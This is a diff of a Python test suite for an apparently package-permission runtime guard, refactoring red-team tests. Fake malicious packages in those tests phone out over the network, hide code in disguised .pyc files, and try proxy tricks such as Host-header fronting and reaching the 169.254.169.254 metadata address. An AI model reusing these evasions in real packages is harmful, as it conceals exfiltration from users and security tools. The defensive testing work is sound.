@@ -12,8 +12,6 @@ Precision cases (legitimate use that must not be reported) are plain tests too.
 
 from __future__ import annotations
 
-import importlib.util
-import marshal
 import socket
 import threading
 import zipfile
@@ -23,7 +21,9 @@ from pathlib import Path
 import pytest
 
 from tests.runtime.conftest import RunPermpip, Target, install_fake
-from tests.runtime.test_guard_redteam import attack, bypass
+from tests.runtime.test_guard_evidence import GUARD_DIR as FIND_GUARD_DIR
+from tests.runtime.test_guard_redteam import Outcome, attack, bypass
+from tests.runtime.test_renamed_bytecode import _pyc
 
 SECRET = "s3cret-file-content"
 
@@ -242,8 +242,7 @@ def test_importlib_resources_leading_out_of_the_package(tmp_path: Path,
 
 @pytest.mark.parametrize("read", [
     "linecache.getline(__file__, 1)",
-    "importlib.metadata.version('evil')",
-    "len(importlib.metadata.files('evil'))",
+    # importlib.metadata.version/files: tests/runtime/test_guard_cry_wolf.py
 ])
 def test_installed_reads_are_not_reported(tmp_path: Path, run_permpip: RunPermpip,
                                           read: str) -> None:
@@ -357,14 +356,13 @@ def test_a_pyc_run_under_a_granted_distributions_name(
     site = tmp_path / "site"
     install_fake(site, "good", "1.0", {"good/__init__.py": "\n"})
     good = str(site / "good" / "__init__.py")
-    code = compile(
+    pyc = _pyc(
         "import urllib.request\n"
         "try:\n"
         f"    urllib.request.urlopen({target.url!r}).read()\n"
         "    print('payload: sent')\n"
         "except OSError as exc:\n"
-        "    print('payload:', type(getattr(exc, 'reason', exc)).__name__)\n", good, "exec")
-    pyc = importlib.util.MAGIC_NUMBER + bytes(12) + marshal.dumps(code)
+        "    print('payload:', type(getattr(exc, 'reason', exc)).__name__)\n", good)
     o = attack(tmp_path, run_permpip, (
         "import importlib.machinery, importlib.util\n"
         f"_PYC = bytes.fromhex({pyc.hex()!r})\n"
@@ -381,11 +379,10 @@ def test_a_pyc_run_under_a_granted_distributions_name(
 
 
 def _attack_with_pyc(tmp_path: Path, run_permpip: RunPermpip, target: Target,
-                     pyc_code: object) -> object:
+                     pyc: bytes) -> Outcome:
     """evil ships ``evil/_p.pyc`` (no source) and imports it."""
     site = tmp_path / "site"
     install_fake(site, "good", "1.0", {"good/__init__.py": "\n"})
-    pyc = importlib.util.MAGIC_NUMBER + bytes(12) + marshal.dumps(pyc_code)
     (site / "evil").mkdir(parents=True)
     (site / "evil" / "_p.pyc").write_bytes(pyc)
     return attack(tmp_path, run_permpip, "def go():\n    import evil._p\n",
@@ -397,11 +394,11 @@ def test_a_shipped_pyc_naming_a_granted_distribution(
     """The import system loads evil/_p.pyc, whose code says it is good/__init__.py: the
     code is the file loaded's (evil's, found by its directory: the .pyc is in no RECORD)."""
     good = str(tmp_path / "site" / "good" / "__init__.py")
-    code = compile("import urllib.request\n"
-                   f"urllib.request.urlopen({target.url!r}).read()\n", good, "exec")
-    o = _attack_with_pyc(tmp_path, run_permpip, target, code)
-    assert target.requests == [], o.output  # type: ignore[attr-defined]
-    v = o.violation("network")  # type: ignore[attr-defined]
+    pyc = _pyc("import urllib.request\n"
+               f"urllib.request.urlopen({target.url!r}).read()\n", good)
+    o = _attack_with_pyc(tmp_path, run_permpip, target, pyc)
+    assert target.requests == [], o.output
+    v = o.violation("network")
     assert (v["package"], v["phase"], v["where"]) == ("evil", "import", "evil/_p.pyc:2")
 
 
@@ -633,7 +630,7 @@ SEND = (
 
 
 def _through_proxy(tmp_path: Path, run_permpip: RunPermpip, proxy: RawProxy, evil: str,
-                   grant: str = LOCAL, env: dict[str, str] | None = None) -> object:
+                   grant: str = LOCAL, env: dict[str, str] | None = None) -> Outcome:
     return attack(tmp_path, run_permpip, evil.replace("@PORT@", str(proxy.port)), grant=grant,
                   env=env, enforce=True)
 
@@ -656,8 +653,8 @@ def _through_proxy(tmp_path: Path, run_permpip: RunPermpip, proxy: RawProxy, evi
 def test_a_request_line_in_a_lax_form(tmp_path: Path, run_permpip: RunPermpip,
                                       proxy: RawProxy, data: str) -> None:
     o = _through_proxy(tmp_path, run_permpip, proxy, SEND.replace("{data}", data))
-    assert b"forbidden.test" not in proxy.received, o.output  # type: ignore[attr-defined]
-    assert o.used == [("evil", "network")]  # type: ignore[attr-defined]
+    assert b"forbidden.test" not in proxy.received, o.output
+    assert o.used == [("evil", "network")]
 
 
 @pytest.mark.parametrize("send", [
@@ -684,8 +681,8 @@ def test_an_address_literal_through_the_proxy(tmp_path: Path, run_permpip: RunPe
         " else 'error ' + repr(exc))\n"),
         env={"http_proxy": "http://localhost:@PORT@".replace("@PORT@", str(proxy.port))})
     got = proxy.received
-    assert b"169.254.169.254" not in got and b"a9fe" not in got, o.output  # type: ignore
-    assert o.used == [("evil", "network")]  # type: ignore[attr-defined]
+    assert b"169.254.169.254" not in got and b"a9fe" not in got, o.output
+    assert o.used == [("evil", "network")]
 
 
 @pytest.mark.parametrize("data", [
@@ -707,8 +704,8 @@ def test_an_address_literal_through_the_proxy(tmp_path: Path, run_permpip: RunPe
 def test_a_request_line_read_otherwise_by_the_proxy(tmp_path: Path, run_permpip: RunPermpip,
                                                     proxy: RawProxy, data: str) -> None:
     o = _through_proxy(tmp_path, run_permpip, proxy, SEND.replace("{data}", data))
-    assert b"forbidden.test" not in proxy.received, o.output  # type: ignore[attr-defined]
-    assert o.used == [("evil", "network")]  # type: ignore[attr-defined]
+    assert b"forbidden.test" not in proxy.received, o.output
+    assert o.used == [("evil", "network")]
 
 
 @bypass("proxy-host", "theoretical (domain fronting): a request to an allowed host whose "
@@ -722,8 +719,8 @@ def test_a_host_header_naming_another_host(tmp_path: Path, run_permpip: RunPermp
         "    c = http.client.HTTPConnection('localhost', @PORT@)\n"
         "    c.request('GET', '/secret', headers={'Host': 'forbidden.test'})\n"
         "    print('sent')\n"))
-    assert b"forbidden.test" not in proxy.received, o.output  # type: ignore[attr-defined]
-    assert o.used == [("evil", "network")]  # type: ignore[attr-defined]
+    assert b"forbidden.test" not in proxy.received, o.output
+    assert o.used == [("evil", "network")]
 
 
 @pytest.mark.parametrize("url", [
@@ -735,8 +732,8 @@ def test_userinfo_and_case_through_the_proxy(tmp_path: Path, run_permpip: RunPer
                                              proxy: RawProxy, url: str) -> None:
     o = _through_proxy(tmp_path, run_permpip, proxy, SEND.replace(
         "{data}", repr(f"GET {url} HTTP/1.1\r\nHost: x\r\n\r\n".encode())))
-    assert b"forbidden" not in proxy.received.lower(), o.output  # type: ignore
-    assert "refused" in o.output and o.used == [("evil", "network")]  # type: ignore
+    assert b"forbidden" not in proxy.received.lower(), o.output
+    assert "refused" in o.output and o.used == [("evil", "network")]
 
 
 @pytest.mark.parametrize("url", [
@@ -752,8 +749,8 @@ def test_allowed_hosts_through_the_proxy_are_not_reported(
         "def go():\n"
         f"    print(urllib.request.urlopen({url!r}).read())\n"), grant=LOCAL_AND_ALLOWED,
         env={"http_proxy": f"http://localhost:{proxy.port}"})
-    assert "b'ok'" in o.output, o.output  # type: ignore[attr-defined]
-    assert o.used == [] and o.code == 0  # type: ignore[attr-defined]
+    assert "b'ok'" in o.output, o.output
+    assert o.used == [] and o.code == 0
 
 
 def test_an_origin_request_with_an_absolute_url_of_its_host(
@@ -762,20 +759,16 @@ def test_an_origin_request_with_an_absolute_url_of_its_host(
     o = _through_proxy(tmp_path, run_permpip, proxy, SEND.replace(
         "{data}", "b'GET http://localhost:@PORT@/x HTTP/1.1\\r\\nHost: localhost\\r\\n\\r\\n'"
         .replace("@PORT@", str(proxy.port))))
-    assert o.output.splitlines() == ["sent"], o.output  # type: ignore[attr-defined]
-    assert o.used == [] and o.code == 0  # type: ignore[attr-defined]
+    assert o.output.splitlines() == ["sent"], o.output
+    assert o.used == [] and o.code == 0
 
 
 # -- 5. the guard's files: dir_fd, links, renames ------------------------------------------------
 
-GUARD_DIR = (
-    "import os, shutil, sys\n"
+GUARD_DIR = FIND_GUARD_DIR + (
+    "import shutil\n"
     "def _reraise(function, path, exc_info):\n"
-    "    raise exc_info[1]\n"
-    "def _guard_dir():\n"
-    "    for p in sys.path:\n"
-    "        if p and os.path.exists(os.path.join(p, 'events.jsonl')):\n"
-    "            return p\n")
+    "    raise exc_info[1]\n")
 
 
 @pytest.mark.parametrize("change", [
